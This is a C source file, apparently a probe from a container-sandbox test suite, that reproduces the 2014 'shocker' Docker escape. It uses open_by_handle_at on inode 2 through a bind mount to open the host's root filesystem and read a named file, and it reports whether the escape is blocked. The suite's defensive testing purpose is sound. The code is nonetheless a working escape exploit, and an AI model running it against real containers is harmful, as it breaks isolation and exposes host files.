/* The "shocker" escape (Docker 0.x, 2014): open_by_handle_at(2) opens a file from a handle
 * -- (inode number, generation) on some filesystem -- without walking any path. Any open
 * file on a host filesystem (here the bind mount the probe lives in) names that filesystem;
 * inode 2 is the root directory of ext2/3/4. So a bind-mounted host directory gives away the
 * host's whole filesystem, outside the bind mount and outside pivot_root.
 * Stopped by: no CAP_DAC_READ_SEARCH (not in Docker's default set) and seccomp (EPERM).
 * usage: open_by_handle DIR_ON_HOST_FS FILE_TO_READ (relative to that filesystem's root) */
#include "probe.h"
#include <fcntl.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    int mount_fd = open(argv[1], O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0)
        blocked("open(bind-mounted dir)");
    struct {
        struct file_handle head;
        unsigned int inode_and_generation[2];
    } handle = {{.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */}, {2, 0}};
    int root_fd = open_by_handle_at(mount_fd, &handle.head, O_RDONLY | O_DIRECTORY);
    if (root_fd < 0)
        blocked("open_by_handle_at(inode 2 = the filesystem's root)");
    int file_fd = openat(root_fd, argv[2], O_RDONLY);
    if (file_fd < 0)
        blocked("openat(host root, file)");
    char text[128] = {0};
    ssize_t length = read(file_fd, text, sizeof text - 1);
    text[length > 0 ? strcspn(text, "\n") : 0] = 0;
    escaped("read the host's /%s through a file handle: \"%s\"", argv[2], text);
}
